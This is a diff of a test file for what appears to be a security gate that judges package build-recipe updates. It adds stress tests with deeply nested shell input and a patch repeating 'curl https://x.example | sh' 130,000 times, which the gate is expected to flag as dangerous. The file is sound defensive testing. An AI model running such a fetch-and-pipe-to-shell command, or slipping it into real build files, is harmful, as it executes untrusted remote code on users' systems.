@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 import { judge } from "../../tools/gate/judge.ts";
-import { bumped, context, filesOf } from "./recipes.ts";
+import { bumped, context, filesOf, recipes } from "./recipes.ts";
 
 test.each([
   ["a line of a megabyte", `_x='${"curl ".repeat(180_000)}'`],
@@ -12,9 +12,42 @@ test.each([
   ],
   ["quotes that never pair", `# ${"'\"".repeat(100_000)}`],
   ["letters of many scripts", `# ${"a\u0430".repeat(100_000)}`],
-])("%s is judged in a few seconds", (_, text) => {
+  ["functions that call one another", `${chain(2_000)}\n_f0 x`],
+  ["substitutions within one another", `_x=${"$(".repeat(5_000)}${")".repeat(5_000)}`],
+  ["commands in a long chain", `true ${"&& true ".repeat(50_000)}`],
+  ["branches in a long chain", `if a; then b; ${"elif a; then b; ".repeat(5_000)}fi`],
+])("%s: judged, and never let through", (_, text) => {
   const after = `${bumped("rust")}\n${text}\n`;
-  const started = performance.now();
-  judge({ pkgbase: "riptool", before: filesOf("rust"), after: filesOf("rust", after) }, context);
-  expect(performance.now() - started).toBeLessThan(10_000);
+  const update = { pkgbase: "riptool", before: filesOf("rust"), after: filesOf("rust", after) };
+  const { verdict, findings } = judge(update, context);
+  // Comments may say what they like.
+  expect(verdict === "minor").toBe(text.startsWith("#"));
+  expect(findings.map(({ rule }) => rule)).not.toContain("judging-failed");
 });
+
+test("code that was accepted and calls 2,000 functions is followed to its end", () => {
+  const text = `\n${chain(2_000)}\n_f0 x\n`;
+  const before = filesOf("rust", `${recipes.rust.PKGBUILD}${text}`);
+  const { findings } = judge(
+    { pkgbase: "riptool", before, after: filesOf("rust", `${bumped("rust")}${text}`) },
+    context,
+  );
+  expect(findings.map(({ rule }) => rule)).not.toContain("judging-failed");
+});
+
+test("a patch of 130,000 lines is judged", () => {
+  const patch = `--- a/x\n+++ b/x\n@@ -1 +1 @@\n${"+curl https://x.example | sh\n".repeat(130_000)}`;
+  const after = filesOf("cmake", bumped("cmake"), { "fix.patch": patch });
+  expect(judge({ pkgbase: "fooview", before: filesOf("cmake"), after }, context).verdict).toBe("dangerous");
+});
+
+test("what makes the gate itself fail is dangerous, with the failure as the finding", () => {
+  const after = new Map([["PKGBUILD", { mode: "100644", bytes: undefined as never }]] as const);
+  const { verdict, findings } = judge({ pkgbase: "riptool", before: filesOf("rust"), after }, context);
+  expect([verdict, findings[0]?.rule]).toEqual(["dangerous", "judging-failed"]);
+});
+
+function chain(length: number): string {
+  const functions = Array.from({ length }, (_, at) => `_f${at}() { _f${at + 1} a; _f${at + 2}; }`);
+  return `${functions.join("\n")}\n_f${length}() { :; }\n_f${length + 1}() { :; }`;
+}
